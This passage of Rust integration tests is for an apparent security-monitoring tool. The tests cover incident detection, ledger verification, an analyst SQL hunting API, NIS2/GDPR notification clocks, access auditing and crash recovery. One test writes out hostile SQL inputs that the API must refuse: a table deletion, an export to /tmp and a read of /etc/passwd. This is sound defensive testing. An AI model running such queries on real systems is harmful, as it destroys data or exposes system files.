            .arg(&part2)
            .arg("--data-dir")
            .arg(&two),
    );

    let (pairs_one, ids_one) = incident_summary(&one);
    let (pairs_two, ids_two) = incident_summary(&two);
    for want in [
        ("credential-read-then-egress", "rs-exfil"),
        ("call-flood-rate", "rs-flood"),
    ] {
        assert!(
            pairs_one.contains(&(want.0.to_string(), want.1.to_string())),
            "{want:?} not raised in one process: {pairs_one:?}"
        );
    }
    assert_eq!(pairs_one, pairs_two);
    // The sequence incident is the same incident (id and events).
    let seq = |m: &BTreeMap<String, Value>| {
        m.iter()
            .filter(|(_, v)| v["rule"] == "credential-read-then-egress")
            .map(|(k, v)| (k.clone(), v.clone()))
            .collect::<Vec<_>>()
    };
    assert_eq!(seq(&ids_one), seq(&ids_two));
    run_ok(dunes().arg("verify").arg(&one));
    run_ok(dunes().arg("verify").arg(&two));
}

#[test]
fn export_bundle_verifies_offline_and_a_tampered_bundle_fails() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let cfg = tmp.path().join("dunes.toml");
    // Hybrid classical + post-quantum checkpoints for this data dir.
    std::fs::write(&cfg, "[ledger]\nhybrid_ed25519 = true\n").expect("config");
    run_ok(
        dunes()
            .arg("replay")
            .arg(sample())
            .arg("--config")
            .arg(&cfg)
            .arg("--data-dir")
            .arg(&dir),
    );
    let bundle = tmp.path().join("bundle");
    run_ok(
        dunes()
            .arg("export")
            .arg("--data-dir")
            .arg(&dir)
            .arg("--out")
            .arg(&bundle),
    );
    let ok = run_ok(dunes().arg("verify").arg(&bundle));
    let report = String::from_utf8_lossy(&ok.stdout);
    assert!(report.contains("OK"), "{report}");
    assert!(
        report.to_lowercase().contains("ed25519"),
        "hybrid signatures checked: {report}"
    );

    // Flip one byte in the largest file of the bundle: verification fails.
    let victim = walk(&bundle)
        .into_iter()
        .max_by_key(|p| std::fs::metadata(p).map(|m| m.len()).unwrap_or(0))
        .expect("a file in the bundle");
    let mut bytes = std::fs::read(&victim).expect("read");
    let at = bytes.len() / 3;
    bytes[at] ^= 0x20;
    std::fs::write(&victim, &bytes).expect("write");
    let out = dunes().arg("verify").arg(&bundle).output().expect("spawn");
    assert!(!out.status.success(), "tampered bundle accepted");
    let text =
        String::from_utf8_lossy(&out.stdout).to_string() + &String::from_utf8_lossy(&out.stderr);
    let name = victim.file_name().and_then(|n| n.to_str()).expect("name");
    assert!(text.contains(name), "failure does not name {name}: {text}");
}

fn walk(dir: &Path) -> Vec<PathBuf> {
    let mut out = Vec::new();
    for e in std::fs::read_dir(dir).expect("read_dir") {
        let p = e.expect("entry").path();
        if p.is_dir() {
            out.extend(walk(&p));
        } else {
            out.push(p);
        }
    }
    out
}

/// POST with a fresh token of `role` and a fresh `Idempotency-Key`; returns
/// the status and the JSON body.
fn post_as(base: &str, dir: &Path, role: &str, path: &str, body: &Value) -> (u16, Value) {
    let mut resp = agent()
        .post(&format!("{base}{path}"))
        .header("authorization", bearer(dir, role))
        .header("idempotency-key", uuid::Uuid::new_v4().to_string())
        .send_json(body)
        .expect("request");
    let status = resp.status().as_u16();
    (status, resp.body_mut().read_json().unwrap_or(Value::Null))
}

fn get_as(base: &str, auth: &str, path: &str) -> (u16, Value) {
    let mut resp = agent()
        .get(&format!("{base}{path}"))
        .header("authorization", auth)
        .call()
        .expect("request");
    let status = resp.status().as_u16();
    (status, resp.body_mut().read_json().unwrap_or(Value::Null))
}

#[test]
fn soc_hunting_over_history_and_incident_lifecycle_in_the_ledger() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let out = replay_sample(&dir);
    let stdout = String::from_utf8_lossy(&out.stdout).to_string();
    // "processed N envelopes (M messages)"
    let nums: Vec<u64> = stdout
        .lines()
        .find(|l| l.starts_with("processed "))
        .expect("summary")
        .split(|c: char| !c.is_ascii_digit())
        .filter_map(|w| w.parse().ok())
        .collect();
    let (envelopes, messages) = (nums[0], nums[1]);
    let rejected = read_ndjson(&dir.join("dead-letter.ndjson")).len() as u64;
    let input = std::fs::read_to_string(sample())
        .expect("sample")
        .lines()
        .count() as u64;
    assert_eq!(envelopes + rejected, input);
    assert!(dir.join("history/events").is_dir(), "no Parquet history");

    let (mut child, base) = start_run(&dir, &[]);

    // Hunting over a day of stored history gives the input's counts.
    let sql = "SELECT count(*) AS n, count(DISTINCT event_id) AS e FROM events \
               WHERE ts >= '2026-11-20T00:00:00Z' AND ts < '2026-11-21T00:00:00Z'";
    let (s, res) = post_as(
        &base,
        &dir,
        "analyst",
        "/api/v1/query",
        &serde_json::json!({"sql": sql}),
    );
    assert_eq!(s, 200, "{res}");
    assert_eq!(res["rows"][0]["n"], messages, "{res}");
    assert_eq!(res["rows"][0]["e"], envelopes, "{res}");
    let (s, res) = post_as(
        &base,
        &dir,
        "analyst",
        "/api/v1/query",
        &serde_json::json!({"sql": "SELECT level, count(*) AS n FROM incidents GROUP BY level ORDER BY level"}),
    );
    assert_eq!(s, 200, "{res}");
    let total: u64 = res["rows"]
        .as_array()
        .expect("rows")
        .iter()
        .map(|r| r["n"].as_u64().expect("n"))
        .sum();
    assert_eq!(
        total as usize,
        read_ndjson(&dir.join("incidents.ndjson")).len()
    );
    // Writes and file access are refused; a viewer may not hunt.
    for bad in [
        "DELETE FROM events",
        "COPY events TO '/tmp/x.csv'",
        "SELECT * FROM '/etc/passwd'",
    ] {
        let (s, res) = post_as(
            &base,
            &dir,
            "analyst",
            "/api/v1/query",
            &serde_json::json!({"sql": bad}),
        );
        assert_eq!(s, 400, "{bad}: {res}");
    }
    let (s, _) = post_as(
        &base,
        &dir,
        "viewer",
        "/api/v1/query",
        &serde_json::json!({"sql": "SELECT 1"}),
    );
    assert_eq!(s, 403);

    // Lifecycle of a Level 2 incident.
    let viewer = bearer(&dir, "viewer");
    let (_, list) = get_as(&base, &viewer, "/api/v1/incidents?level=2&status=open");
    let id = list["incidents"][0]["incident_id"]
        .as_str()
        .expect("a level 2 incident")
        .to_string();
    let path = |a: &str| format!("/api/v1/incidents/{id}/{a}");
    let empty = serde_json::json!({});
    assert_eq!(post_as(&base, &dir, "viewer", &path("ack"), &empty).0, 403);
    let (s, r) = post_as(
        &base,
        &dir,
        "analyst",
        &path("ack"),
        &serde_json::json!({"note": "looking"}),
    );
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["incident"]["status"], "acknowledged");
    assert!(r["action"]["ledger_index"].as_u64().is_some(), "{r}");
    assert_eq!(post_as(&base, &dir, "analyst", &path("ack"), &empty).0, 409);
    // One token for many actions, each with its own Idempotency-Key; the same
    // key again answers what the first request did, with no second effect
    // (the history below has one assign).
    let t = bearer(&dir, "analyst");
    let assign = |key: &str, assignee: &str| {
        let mut resp = agent()
            .post(&format!("{base}{}", path("assign")))
            .header("authorization", &t)
            .header("idempotency-key", key)
            .send_json(serde_json::json!({ "assignee": assignee }))
            .expect("request");
        let replayed = resp.headers().get("idempotent-replayed").is_some();
        let body: Value = resp.body_mut().read_json().unwrap_or(Value::Null);
        (resp.status().as_u16(), replayed, body)
    };
    let (s, replayed, first) = assign("assign-1", "bob");
    assert_eq!((s, replayed), (200, false), "{first}");
    let (s, replayed, again) = assign("assign-1", "bob");
    assert_eq!((s, replayed), (200, true), "{again}");
    assert_eq!(
        again, first,
        "the replay answers what the first request did"
    );
    let (s, _, r) = assign("assign-1", "eve");
    assert_eq!(s, 422, "a key reused for another request: {r}");
    assert_eq!(
        post_as(&base, &dir, "analyst", &path("escalate"), &empty).0,
        403
    );
    let (s, r) = post_as(
        &base,
        &dir,
        "responder",
        &path("escalate"),
        &serde_json::json!({"note": "exfil confirmed"}),
    );
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["incident"]["level"], 3);
    assert_eq!(r["responses"], 1);
    assert_eq!(
        post_as(&base, &dir, "responder", &path("escalate"), &empty).0,
        409
    );
    // Level 3: the NIS2 and GDPR notification clocks run (the default
    // regimes); a stage is submitted over the API, once.
    let (s, one) = get_as(&base, &viewer, &format!("/api/v1/incidents/{id}"));
    assert_eq!(s, 200);
    let clocks = |v: &Value| -> Vec<(String, String, String)> {
        v.as_array()
            .expect("clocks")
            .iter()
            .map(|c| {
                (
                    c["regime"].as_str().expect("regime").to_string(),
                    c["stage"].as_str().expect("stage").to_string(),
                    c["state"].as_str().expect("state").to_string(),
                )
            })
            .collect()
    };
    let running = |r: &str, s: &str, st: &str| (r.to_string(), s.to_string(), st.to_string());
    assert_eq!(
        clocks(&one["notification"]),
        vec![
            running("nis2", "early-warning", "running"),
            running("nis2", "incident-notification", "running"),
            running("nis2", "final-report", "waiting"),
            running("gdpr", "authority-notification", "running"),
        ]
    );
    let notify = |body: Value| post_as(&base, &dir, "analyst", &path("notify"), &body);
    assert_eq!(
        notify(serde_json::json!({"regime": "nis2", "stage": "nope"})).0,
        400
    );
    let (s, r) = notify(
        serde_json::json!({"regime": "nis2", "stage": "early-warning", "note": "to the CSIRT"}),
    );
    assert_eq!(s, 200, "{r}");
    assert_eq!(
        r["incident"]["notification"][0]["state"], "submitted_on_time",
        "{r}"
    );
    assert_eq!(
        notify(serde_json::json!({"regime": "nis2", "stage": "early-warning"})).0,
        409,
        "submitted once"
    );
    let (s, list) = get_as(&base, &viewer, "/api/v1/notifications");
    assert_eq!(s, 200);
    let mine = Value::Array(
        list["clocks"]
            .as_array()
            .expect("clocks")
            .iter()
            .filter(|c| c["incident_id"] == id.as_str())
            .cloned()
            .collect(),
    );
    assert_eq!(
        clocks(&mine),
        vec![
            running("nis2", "incident-notification", "running"),
            running("gdpr", "authority-notification", "running"),
            running("nis2", "final-report", "waiting"),
            running("nis2", "early-warning", "submitted_on_time"),
        ],
        "open stages first, by deadline"
    );
    assert_eq!(
        post_as(&base, &dir, "analyst", &path("resolve"), &empty).0,
        400
    );
    let (s, r) = post_as(
        &base,
        &dir,
        "analyst",
        &path("resolve"),
        &serde_json::json!({"disposition": "true_positive", "note": "contained"}),
    );
    assert_eq!(s, 200, "{r}");
    assert_eq!(r["incident"]["status"], "resolved");
    // The same token, a new key: the action runs (and is refused: resolved
    // incidents take no more actions); without a key it does not run at all.
    assert_eq!(assign("assign-2", "eve").0, 409);
    let status = agent()
        .post(&format!("{base}{}", path("assign")))
        .header("authorization", &t)
        .send_json(serde_json::json!({"assignee": "eve"}))
        .expect("request")
        .status()
        .as_u16();
    assert_eq!(
        status, 400,
        "a state-changing request without an Idempotency-Key"
    );

    let (s, one) = get_as(&base, &viewer, &format!("/api/v1/incidents/{id}"));
    assert_eq!(s, 200);
    let hist: Vec<(String, String)> = one["history"]
        .as_array()
        .expect("history")
        .iter()
        .map(|a| {
            (
                a["action"].as_str().expect("action").to_string(),
                a["role"].as_str().expect("role").to_string(),
            )
        })
        .collect();
    let want = [
        ("ack", "analyst"),
        ("assign", "analyst"),
        ("escalate", "responder"),
        ("notify", "analyst"),
        ("resolve", "analyst"),
    ];
    assert_eq!(
        hist,
        want.iter()
            .map(|(a, r)| (a.to_string(), r.to_string()))
            .collect::<Vec<_>>()
    );
    assert!(
        one["history"]
            .as_array()
            .expect("h")
            .iter()
            .all(|a| a["actor"] == "e2e")
    );
    assert_eq!(one["assignee"], "bob");
    assert_eq!(one["disposition"], "true_positive");
    assert_eq!(one["level"], 3);

    // Metrics and OpenAPI.
    let admin = bearer(&dir, "admin");
    let text = agent()
        .get(&format!("{base}/metrics"))
        .header("authorization", &admin)
        .call()
        .expect("metrics")
        .body_mut()
        .read_to_string()
        .expect("text");
    assert!(text.contains("dunes_http_requests_total"), "{text}");
    assert!(text.contains("dunes_incident_actions_total"), "{text}");
    let (s, doc) = get_as(&base, &admin, "/openapi.json");
    assert_eq!(s, 200);
    assert!(
        doc["paths"]["/api/v1/incidents/{id}/escalate"].is_object(),
        "{doc}"
    );
    assert!(doc["paths"]["/api/v1/query"].is_object());

    stop_and_verify(&mut child, &dir);
    // Access audit: every authenticated request is an `access` record; the
    // hunting queries carry their SQL, refusals are there too.
    let mut access: Vec<Value> = Vec::new();
    dunes_ledger::for_each_record(&dir, 0, |r| {
        if r.kind == dunes_ledger::RecordKind::Access {
            access.push(serde_json::from_slice(r.payload).expect("access payload"));
        }
    })
    .expect("ledger reads");
    let hunted: Vec<&str> = access
        .iter()
        .filter(|a| a["route"] == "/api/v1/query" && a["status"] == 200)
        .map(|a| a["sql"].as_str().expect("sql"))
        .collect();
    assert!(hunted.contains(&sql), "{hunted:?}");
    assert!(access.iter().any(|a| a["route"] == "/api/v1/query"
        && a["status"] == 400
        && a["sql"] == "DELETE FROM events"));
    assert!(
        access
            .iter()
            .any(|a| a["route"] == "/api/v1/query" && a["role"] == "viewer" && a["status"] == 403),
        "a refused request is audited"
    );
    let reads = access
        .iter()
        .filter(|a| a["route"] == "/api/v1/incidents/{id}" && a["method"] == "GET")
        .count();
    assert!(reads >= 1, "incident reads are audited");
    for a in &access {
        assert_eq!(a["type"], "api_access");
        assert_eq!(a["sub"], "e2e", "{a}");
        assert_eq!(a["params_blake3"].as_str().map(str::len), Some(64), "{a}");
        assert!(
            a["route"] != "/v1/ingest",
            "ingest is not access-audited: {a}"
        );
    }
    let replayed = access
        .iter()
        .filter(|a| a["idempotency_key"] == "assign-1")
        .count();
    assert_eq!(
        replayed, 3,
        "the assign, its replay and the 422 are each audited"
    );
    // Every action is in the ledger's outputs; the escalation issued the Level 3 response.
    assert_eq!(read_ndjson(&dir.join("actions.ndjson")).len(), 5);
    assert!(
        read_ndjson(&dir.join("responses.ndjson"))
            .iter()
            .any(|r| r["incident_id"] == id.as_str()
                && r["action"] == "isolate_server"
                && r["regulatory_deadline"].is_string())
    );
    // After a restart the history and the resolved state are still there.
    let (mut child, base) = start_run(&dir, &[]);
    let (_, one) = get_as(
        &base,
        &bearer(&dir, "viewer"),
        &format!("/api/v1/incidents/{id}"),
    );
    assert_eq!(one["status"], "resolved");
    assert_eq!(one["history"].as_array().map(Vec::len), Some(5));
    assert_eq!(
        one["notification"][0]["state"], "submitted_on_time",
        "the submission is rebuilt from the ledgered actions"
    );
    stop_and_verify(&mut child, &dir);
}

/// (rule, incident id) of every incident in an NDJSON file.
fn incident_ids(p: &Path) -> BTreeSet<(String, String)> {
    read_ndjson(p)
        .iter()
        .map(|i| {
            (
                i["rule_id"].as_str().expect("rule").to_string(),
                i["incident_id"].as_str().expect("id").to_string(),
            )
        })
        .collect()
}

#[test]
fn backfill_from_the_store_raises_the_same_incidents_as_the_live_run() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    replay_sample(&dir);
    // Backfill re-runs the rules over the history; the behavioural model
    // (here the shipped prior, which flags the sample's recon) is not
    // replayed.
    let live: BTreeSet<(String, String)> = incident_ids(&dir.join("run-incidents.ndjson"))
        .into_iter()
        .filter(|(rule, _)| rule != "anomaly.behaviour")
        .collect();
    assert!(!live.is_empty());
    let before = read_ndjson(&dir.join("incidents.ndjson")).len();
    let bf = tmp.path().join("backfill.ndjson");
    let out = run_ok(
        dunes()
            .args(["replay", "--from-store", "--since", "2026-11-20T00:00:00Z"])
            .args(["--until", "2026-11-21T00:00:00Z", "--data-dir"])
            .arg(&dir)
            .arg("--incidents-out")
            .arg(&bf),
    );
    let stdout = String::from_utf8_lossy(&out.stdout);
    assert!(
        stdout.contains("incidents: 0"),
        "known incidents are not raised twice: {stdout}"
    );
    assert_eq!(incident_ids(&bf), live);
    assert!(read_ndjson(&bf).iter().all(|i| i["backfill"] == true));
    assert_eq!(read_ndjson(&dir.join("incidents.ndjson")).len(), before);
    // An empty window raises nothing.
    let none = tmp.path().join("none.ndjson");
    run_ok(
        dunes()
            .args([
                "replay",
                "--from-store",
                "--since",
                "2030-01-01T00:00:00Z",
                "--data-dir",
            ])
            .arg(&dir)
            .arg("--incidents-out")
            .arg(&none),
    );
    assert!(read_ndjson(&none).is_empty());
    run_ok(dunes().arg("verify").arg(&dir));
}

/// `--incidents-out /dev/stdout` into a pipe: the incident lines stream out (the
/// durability fsync is only for regular files; a pipe cannot be synced) and are
/// the lines of `incidents.ndjson`.
#[cfg(unix)]
#[test]
fn incidents_out_to_a_pipe_streams_every_incident() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("d");
    let out = dunes()
        .arg("replay")
        .arg(sample())
        .arg("--data-dir")
        .arg(&dir)
        .arg("--incidents-out")
        .arg("/dev/stdout")
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .output()
        .expect("run");
    assert!(
        out.status.success(),
        "{:?}: {}",
        out.status,
        String::from_utf8_lossy(&out.stderr)
    );
    let streamed: Vec<Value> = String::from_utf8_lossy(&out.stdout)
        .lines()
        .filter(|l| l.starts_with('{'))
        .map(|l| serde_json::from_str(l).expect("an incident line"))
        .collect();
    let stored = read_ndjson(&dir.join("incidents.ndjson"));
    assert!(stored.len() > 20, "{}", stored.len());
    assert_eq!(streamed, stored);
}

/// `dunes simulate --out - | head -1`: the reader goes away early; the
/// command ends quietly (no error, no panic), like other Unix tools.
#[test]
fn printing_to_a_closed_pipe_ends_quietly() {
    use std::io::BufRead;
    let mut child = dunes()
        .args(["simulate", "--sessions", "2000", "--out", "-"])
        .stdout(Stdio::piped())
        .stderr(Stdio::piped())
        .spawn()
        .expect("spawn");
    let stdout = child.stdout.take().expect("stdout");
    let mut first = String::new();
    std::io::BufReader::new(stdout)
        .read_line(&mut first)
        .expect("first line");
    // The pipe is closed here, long before 2000 sessions are written.
    let v: Value = serde_json::from_str(&first).expect("an envelope on stdout");
    assert!(v["message"].is_object(), "{first}");
    let out = child.wait_with_output().expect("wait");
    let err = String::from_utf8_lossy(&out.stderr);
    assert!(
        !err.contains("panicked") && !err.contains("error"),
        "{:?}: {err}",
        out.status
    );
    assert!(!out.status.success(), "it cannot have finished writing");
}

/// Per ledgered event id and per ledgered incident id, how many records.
fn ledger_counts(dir: &Path) -> (BTreeMap<String, usize>, BTreeMap<String, usize>) {
    let (mut events, mut incidents) = (BTreeMap::new(), BTreeMap::new());
    dunes_ledger::for_each_record(dir, 0, |r| {
        let v: Value = match serde_json::from_slice(r.payload) {
            Ok(v) => v,
            Err(_) => return,
        };
        let (map, key) = match r.kind {
            dunes_ledger::RecordKind::Event => (&mut events, "event_id"),
            dunes_ledger::RecordKind::Incident => (&mut incidents, "incident_id"),
            _ => return,
        };
        if let Some(id) = v[key].as_str() {
            *map.entry(id.to_string()).or_insert(0) += 1;
        }
    })
    .expect("ledger reads");
    (events, incidents)
}

/// Every incident (newest line per id) as what detection decided: rule,
/// level, events, running count and times (not when it was detected).
fn incident_outcomes(dir: &Path) -> BTreeMap<String, Value> {
    read_ndjson(&dir.join("incidents.ndjson"))
        .into_iter()
        .map(|inc| {
            let id = inc["incident_id"].as_str().expect("id").to_string();
            let mut events: Vec<String> = inc["event_ids"]
                .as_array()
                .expect("event ids")
                .iter()
                .map(|e| e.as_str().expect("id").to_string())
                .collect();
            events.sort();
            let v = serde_json::json!({
                "rule": inc["rule_id"], "level": inc["level"], "events": events,
                "count": inc["match_count"], "first": inc["first_ts"], "last": inc["last_ts"],
            });
            (id, v)
        })
        .collect()
}

/// A crash can cut the last line of `incidents.ndjson` (a buffered append reached the file
/// in part). The next start gives a whole JSON line its newline back and removes a cut one,
/// so the new incidents land on lines of their own and the file reads back: the same
/// incidents as a run never damaged, less the cut one.
#[test]
fn a_torn_last_incident_line_is_repaired_on_start() {
    let tmp = tempfile::tempdir().expect("tmp");
    let (session, _) = secrets_session();
    let text = std::fs::read_to_string(sample()).expect("sample");
    let (first, second): (Vec<&str>, Vec<&str>) = text.lines().partition(|l| !l.contains(&session));
    let (f1, f2) = (
        tmp.path().join("first.ndjson"),
        tmp.path().join("second.ndjson"),
    );
    std::fs::write(&f1, first.join("\n") + "\n").expect("write");
    std::fs::write(&f2, second.join("\n") + "\n").expect("write");
    let replay = |dir: &Path, input: &Path| {
        run_ok(dunes().arg("replay").arg(input).arg("--data-dir").arg(dir))
    };
    let whole = tmp.path().join("whole");
    replay(&whole, &f1);
    replay(&whole, &f2);
    let want = incident_outcomes(&whole);

    for cut in [false, true] {
        let dir = tmp.path().join(format!("cut-{cut}"));
        replay(&dir, &f1);
        let path = dir.join("incidents.ndjson");
        let mut bytes = std::fs::read(&path).expect("incidents");
        assert_eq!(bytes.pop(), Some(b'\n'));
        let last_start = bytes.iter().rposition(|&b| b == b'\n').map_or(0, |i| i + 1);
        let last: Value = serde_json::from_slice(&bytes[last_start..]).expect("last line");
        let last_id = last["incident_id"].as_str().expect("id").to_string();
        if cut {
            bytes.truncate(last_start + (bytes.len() - last_start) / 2);
        }
        std::fs::write(&path, &bytes).expect("damage");
        let out = replay(&dir, &f2);
        let got = incident_outcomes(&dir);
        let mut expected = want.clone();
        if cut {
            assert!(
                String::from_utf8_lossy(&out.stderr).contains("last line was cut by a crash"),
                "the repair is logged"
            );
            expected.remove(&last_id);
        }
        assert!(got.len() > 20, "{}", got.len());
        assert_eq!(got, expected, "cut: {cut}");
    }
}

/// The process is aborted (as by `kill -9`) between a batch's ledger fsync
/// and its state journal entry, and right after the journal entry, several
/// times; each restart re-reads the whole file. The state is rebuilt from
/// the snapshot, the journal and the ledger's tail, so the incidents are
/// exactly those of one uninterrupted run, every event is ledgered once and
/// no incident is ledgered more often.
#[test]
fn kill_9_around_the_state_journal_resumes_with_identical_incidents() {
    let tmp = tempfile::tempdir().expect("tmp");
    let cfg = tmp.path().join("dunes.toml");
    // Small batches (many journal entries) and a small compaction threshold
    // (the background compaction runs, and may be cut short too).
    std::fs::write(
        &cfg,
        "[ingest]\nbatch_size = 64\n[state]\njournal_compact_bytes = 300000\n",
    )
    .expect("config");
    let replay = |dir: &Path| {
        let mut c = dunes();
        c.arg("replay")
            .arg("--config")
            .arg(&cfg)
            .arg(sample())
            .arg("--data-dir")
            .arg(dir);
        c
    };
    let one = tmp.path().join("one");
    run_ok(&mut replay(&one));
    let two = tmp.path().join("two");
    for at in [
        "after-ledger-sync:7",
        "after-state:5",
        "after-ledger-sync:30",
        "after-ledger-sync:41",
        "after-state:47",
    ] {
        let out = replay(&two)
            .env("DUNES_CRASH_AT", at)
            .output()
            .expect("spawn");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(
            !out.status.success() && stderr.contains("DUNES_CRASH_AT: aborting"),
            "{at}: did not crash: {}\n{stderr}",
            out.status
        );
    }
    let out = run_ok(replay(&two).env("RUST_LOG", "warn,dunes_pipeline::stage=info"));
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(stderr.contains("caught up with the ledger"), "{stderr}");

    let (want, got) = (incident_outcomes(&one), incident_outcomes(&two));
    assert!(
        want.len() > 20,
        "the sample raises incidents: {}",
        want.len()
    );
    assert_eq!(
        want.keys().collect::<Vec<_>>(),
        got.keys().collect::<Vec<_>>()
    );
    for (id, v) in &want {
        assert_eq!(Some(v), got.get(id), "incident {id}");
    }
    let (events_one, incidents_one) = ledger_counts(&one);
    let (events_two, incidents_two) = ledger_counts(&two);
    assert_eq!(events_one, events_two, "every event ledgered once");
    assert!(events_two.values().all(|n| *n == 1));
    assert_eq!(incidents_one, incidents_two, "incident records per id");
    // The journal was compacted into the snapshot on the way.
    let snapshot: Value = serde_json::from_slice(
        &std::fs::read(two.join("state/detect-state.json")).expect("snapshot"),
    )
    .expect("json");
    assert!(snapshot["position"].as_u64().is_some_and(|p| p > 0));
    run_ok(dunes().arg("verify").arg(&two));
}

/// SIGTERM while clients keep posting envelopes and reading incidents: every
/// request the server accepted is answered, the process stops in time, and
/// what it answered 202 to is in the ledger with an access record per read.
#[test]
fn sigterm_under_load_answers_every_request_and_stops() {
    let tmp = tempfile::tempdir().expect("tmp");
    let dir = tmp.path().join("data");
    let (mut child, base) = start_run(&dir, &[]);
    let sample = std::fs::read_to_string(
        PathBuf::from(env!("CARGO_MANIFEST_DIR")).join("examples/corpus/mcp-sample.ndjson"),
    )
    .expect("sample");
    let lines: Vec<&str> = sample.lines().collect();
    let ingest = bearer(&dir, "ingest");
    let viewer = bearer(&dir, "viewer");
    let stop = std::sync::atomic::AtomicBool::new(false);
    let (accepted, reads) = std::thread::scope(|s| {
        let poster = s.spawn(|| {
            let mut accepted = 0u64;
            for chunk in lines.chunks(200).cycle().take(200) {
                if stop.load(std::sync::atomic::Ordering::Relaxed) {
                    break;
                }
                let body = chunk.join("\n");
                match agent()
                    .post(&format!("{base}/v1/ingest"))
                    .header("authorization", &ingest)
                    .send(body.as_bytes())
                {
                    Ok(mut r) if r.status().as_u16() == 202 => {
                        let ack: Value = r.body_mut().read_json().expect("ack");
                        accepted += ack["accepted"].as_u64().expect("accepted");
                    }
                    Ok(r) => panic!("ingest answered {}", r.status()),
                    Err(_) => break, // the listener is closed: stopping
                }
            }
            accepted
        });
        let reader = s.spawn(|| {
            let mut reads = 0u64;
            while !stop.load(std::sync::atomic::Ordering::Relaxed) {
                match agent()
                    .get(&format!("{base}/api/v1/incidents?limit=5"))
                    .header("authorization", &viewer)
                    .call()
                {
                    Ok(r) if r.status().as_u16() == 200 => reads += 1,
                    // the per-token rate limit (200/s) is doing its job
                    Ok(r) if r.status().as_u16() == 429 => {
                        std::thread::sleep(Duration::from_millis(20))
                    }
                    Ok(r) => panic!("read answered {}", r.status()),
                    Err(_) => break,
                }
            }
            reads
        });
        std::thread::sleep(Duration::from_millis(1500));
        sigterm_and_wait(&mut child);
        stop.store(true, std::sync::atomic::Ordering::Relaxed);
        (
            poster.join().expect("poster"),
            reader.join().expect("reader"),
        )
    });
    assert!(accepted > 0 && reads > 0, "no load: {accepted} {reads}");
    run_ok(dunes().arg("verify").arg(&dir));
    // nothing acknowledged is lost, nothing is ledgered twice (repeated
    // chunks of the sample are de-duplicated, not counted as accepted)
    let (events, _) = ledger_counts(&dir);
    assert!(events.values().all(|&n| n == 1), "an event ledgered twice");
    assert!(
        events.len() as u64 >= accepted,
        "{} ledgered < {accepted} acknowledged",
        events.len()
    );
    let mut audited = 0u64;
    dunes_ledger::for_each_record(&dir, 0, |r| {
        if r.kind == dunes_ledger::RecordKind::Access {
            audited += 1;
        }
    })
    .expect("ledger reads");
    assert!(
        audited >= reads,
        "{audited} access records for {reads} answered reads"
    );
}
